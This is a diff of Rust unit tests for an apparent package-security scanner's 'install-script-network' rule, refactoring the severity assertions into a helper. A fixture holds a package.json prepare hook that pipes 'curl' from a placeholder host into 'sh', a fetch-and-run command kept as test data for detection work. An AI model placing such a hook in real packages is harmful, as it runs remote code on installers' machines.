@@ -137,10 +137,7 @@ mod tests {
             "{\"name\":\"t\",\"scripts\":{\"prepare\":\"curl -s https://x.example.com/a | sh\"}}",
         )]);
         assert_eq!(
-            s.findings
-                .iter()
-                .find(|f| f.rule == "code/install-script-network")
-                .map(|f| f.severity),
+            crate::rules::test_util::severity(&s, "code/install-script-network"),
             Some(diligence_finding::Severity::Medium)
         );
         assert_eq!(s.verdict, crate::Verdict::Clean);
@@ -167,10 +164,7 @@ mod tests {
             vec![("setup.sh".to_string(), 3)]
         );
         assert_eq!(
-            s.findings
-                .iter()
-                .find(|f| f.rule == "code/install-script-network")
-                .map(|f| f.severity),
+            crate::rules::test_util::severity(&s, "code/install-script-network"),
             Some(diligence_finding::Severity::Critical)
         );
     }
